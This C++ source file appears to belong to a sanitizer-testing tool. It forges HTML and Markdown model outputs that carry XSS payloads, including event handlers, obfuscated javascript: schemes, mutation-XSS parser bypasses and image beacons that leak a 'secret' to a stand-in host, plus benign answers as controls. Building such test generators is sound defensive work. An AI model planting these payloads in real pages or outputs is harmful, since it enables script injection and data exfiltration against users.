#include "drills/forges/markup.h"

#include <array>
#include <random>
#include <string_view>

#include "core/json.h"

namespace sallyport::drills {
namespace {

// %J is a script, %U an address elsewhere, %S the scheme javascript: in one of its spellings, %B a blank.
constexpr std::array kHtml{
    "<script>%J</script>",
    "<script%Bsrc=%U></script>",
    "<p>fine</p><script\n>%J</script\n>",
    "<img%Bsrc=\"x\"%Bonerror=\"%J\">",
    "<svg%Bonload=\"%J\"></svg>",
    "<body%Bonload=\"%J\">",
    "<details%Bopen%Bontoggle=\"%J\"><summary>more</summary></details>",
    "<input%Bautofocus%Bonfocus=\"%J\">",
    "<video><source%Bonerror=\"%J\"></video>",
    "<div%Btabindex=\"0\"%Bautofocus%Bonfocusin=\"%J\">x</div>",
    "<p%Btitle=\"a>b\"%Bonmouseover='%J'>x</p>",
    "<x-note%Bonpointerenter=\"%J\">x</x-note>",
    "<marquee%Bonstart=\"%J\">x</marquee>",
    "<a%Bhref=\"%S%J\">click</a>",
    "<a%Bhref='%S%J'%Bclass=big>click</a>",
    "<a%Bhref=\"data:text/html,<script>%J</script>\">click</a>",
    "<form%Baction=\"%S%J\"><button>go</button></form>",
    "<form><button%Bformaction=\"%S%J\">go</button></form>",
    "<iframe%Bsrc=\"%S%J\"></iframe>",
    "<iframe%Bsrcdoc=\"&lt;script&gt;%J&lt;/script&gt;\"></iframe>",
    "<object%Bdata=\"data:text/html,<script>%J</script>\"></object>",
    "<embed%Bsrc=\"%S%J\">",
    "<meta%Bhttp-equiv=\"refresh\"%Bcontent=\"0;url=%U\">",
    "<base%Bhref=\"%U\">",
    "<svg><a%Bxlink:href=\"%S%J\"><text>click</text></a></svg>",
    "<svg><script>%J</script></svg>",
    "<svg><g%Bonload=\"%J\"></g></svg>",
    "<svg><image%Bhref=\"%U\"/></svg>",
    "<svg><filter><feImage%Bhref=\"%U\"/></filter></svg>",
    "<svg><use%Bhref=\"%U#x\"/></svg>",
    "<math><mtext%Bonclick=\"%J\">x</mtext></math>",
    "<math><a%Bxlink:href=\"%S%J\">click</a></math>",
    "<img%Bsrc=\"%U\">",
    "<img%Bsrcset=\"%U 2x\">",
    "<img%Balt='chart'%Bsrc='%U'%Bwidth=1%Bheight=1>",
    "<picture><source%Bsrcset=\"%U\"><img></picture>",
    "<video%Bposter=\"%U\"></video>",
    "<audio%Bsrc=\"%U\"%Bautoplay></audio>",
    "<table%Bbackground=\"%U\"><tr><td>1</td></tr></table>",
    "<td%Bbackground=\"%U\">1</td>",
    "<input%Btype=\"image\"%Bsrc=\"%U\">",
    "<link%Brel=\"stylesheet\"%Bhref=\"%U\">",
    "<div%Bstyle=\"background:url(%U)\">x</div>",
    "<div%Bstyle=\"background:u\\72l(%U)\">x</div>",
    "<p%Bstyle=\"list-style-image:image-set('%U' 1x)\">x</p>",
    "<style>@import '%U';</style>",
    "<style>body{background:url(%U)}</style>",
    "<object%Bdata=\"%U\"></object>",
    "<noscript><p%Btitle=\"</noscript><img%Bsrc=x%Bonerror=%J>\">",
    "<math><mtext><table><mglyph><style><!--</style><img%Btitle=\"--&gt;&lt;img%Bsrc=1%Bonerror=%J&gt;\">"
    "<img%Bsrc=\"x\"%Bonerror=\"%J\">",
    "<svg></p><style><a%Bid=\"</style><img%Bsrc=1%Bonerror=%J>\">",
    "<title><a%Btitle=\"</title><img%Bsrc=x%Bonerror=%J>\"></a></title>",
    "<textarea><img%Btitle=\"</textarea><img%Bsrc=x%Bonerror=%J>\"></textarea>",
    "<xmp><img%Btitle=\"</xmp><img%Bsrc=x%Bonerror=%J>\"></xmp>",
    "<!--><img%Bsrc=x%Bonerror=\"%J\">-->",
    "<!-- x --!><img%Bsrc=x%Bonerror=\"%J\">-->",
    "<![CDATA[><img%Bsrc=x%Bonerror=\"%J\">]]>",
    "<?xml version='1.0'><img%Bsrc=x%Bonerror=\"%J\">?>",
    "<select><option><style></option></select><img%Bsrc=x%Bonerror=\"%J\"></style>",
    "<template><img%Bsrc=x%Bonerror=\"%J\"></template>",
    "<b><p%Btitle='</b><img%Bsrc=%U>'%Bonclick=\"%J\">x</p></b>",
    "1 < 2 <img%Bsrc=x%Bonerror=\"%J\"",
};

constexpr std::array kMarkdown{
    "![chart](%U)",
    "The result is 7. ![](<%U> \"x\")",
    "![chart][r]\n\n[r]: %U\n",
    "[click](%S%J)",
    "[click](<%S%J>)",
    "<javascript:%J>",
    "[![i](%U)](https://example.org)",
    "Text\n\n<img src=x onerror=\"%J\">\n\nmore",
    "<div>\n```\n<img src=\"%U\">\n```\n</div>",
    "a | b\n-|-\n1 | <img src=\"%U\">\n",
    "- item\n\n  <svg onload=\"%J\">\n",
    "**bold** <a href=\"%S%J\">click</a>",
};

std::string replaced(std::string text, std::string_view what, std::string_view with) {
  for (std::size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + with.size())) {
    text.replace(at, what.size(), with);
  }
  return text;
}

std::string mixed_case(std::string text) {
  bool in_tag = false, upper = false;
  for (char& c : text) {
    if (c == '<') in_tag = true;
    if (c == ' ' || c == '>' || c == '/') in_tag = c == '/';
    if (in_tag && upper && c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
    upper = !upper;
  }
  return text;
}

std::string spell(std::string_view shape, std::size_t style) {
  constexpr std::array<std::string_view, 5> kSchemes{
      "javascript:", "JaVaScRiPt:", " java\tscript:", "&#106;avascript&colon;", "&#x0006a;avascript&#58"};
  constexpr std::array<std::string_view, 3> kScripts{"document.title=1", "top.document.title=`1`",
                                                     "document['title']=1"};
  constexpr std::array<std::string_view, 5> kBlanks{" ", "\n", "/", "\t\f ", " a=b "};
  constexpr std::array<std::string_view, 5> kPlaces{"https://beacon.example/p.png?q=secret",
                                                    "//beacon.example/p", "HTTP://beacon.example",
                                                    "https:beacon.example/x", "/\\beacon.example/y"};
  std::string text = replaced(std::string(shape), "%J", kScripts[style % kScripts.size()]);
  text = replaced(std::move(text), "%S", kSchemes[style % kSchemes.size()]);
  text = replaced(std::move(text), "%U", kPlaces[style % kPlaces.size()]);
  text = replaced(std::move(text), "%B", kBlanks[style % kBlanks.size()]);
  return style % 3 == 1 ? mixed_case(std::move(text)) : text;
}

std::string in_json(const std::string& text) {
  return Json{{"model_name", "chat"},
              {"outputs", {{{"name", "text"}, {"datatype", "BYTES"}, {"shape", {1}}, {"data", {text}}}}}}
      .dump();
}

}  // namespace

Answer forge_markup(std::size_t index) {
  constexpr std::size_t kShapes = kHtml.size() + kMarkdown.size();
  const std::size_t shape = index % kShapes, style = index / kShapes;
  if (shape >= kHtml.size()) {
    const std::string text = spell(kMarkdown[shape - kHtml.size()], style == 2 ? 3 : 0);
    return style == 1 ? Answer{"application/json", in_json(text)} : Answer{"text/markdown", text};
  }
  const std::string text = spell(kHtml[shape], shape + style);
  return style == 1 ? Answer{"application/json", in_json(text)} : Answer{"text/html", text};
}

Answer ordinary_answer(std::uint64_t seed) {
  std::mt19937_64 random(seed);
  const std::string n = std::to_string(random() % 1000);
  switch (seed % 6) {
    case 0:
      return {"text/html",
              "<h2>Results</h2><table><thead><tr><th>n</th><th>p</th></tr></thead><tbody><tr><td>" + n +
                  "</td><td align=\"right\">0.98</td></tr></tbody></table><p>1 &lt; 2 &amp; 3</p>"};
    case 1:
      return {"text/html", "<p>See <a href=\"https://example.org/notes?id=" + n +
                               "&amp;v=1\" title=\"notes\">the notes</a> or "
                               "<a href=\"mailto:ana@example.org\">write</a>.</p><ul><li>one<li>two</ul>"};
    case 2:
      return {"text/html", "<pre><code class=\"language-html\">&lt;script&gt;alert(" + n +
                               ")&lt;/script&gt;\n&lt;img src=x "
                               "onerror=y&gt;</code></pre>"};
    case 3:
      return {"text/markdown", "| n | p |\n|---|---|\n| " + n +
                                   " | 0.98 |\n\nSee [the notes](https://example.org/" + n +
                                   ") and <https://example.org/>.\n"};
    case 4:
      return {"text/markdown", "Never do this:\n\n```html\n<img src=x onerror=\"alert(" + n +
                                   ")\">\n```\n\nUse `<b>` instead.\n"};
    default:
      return {"application/json",
              in_json("if a < b && c > " + n + ", use vector<T>; [1] says **so** at https://example.org")};
  }
}

}  // namespace sallyport::drills
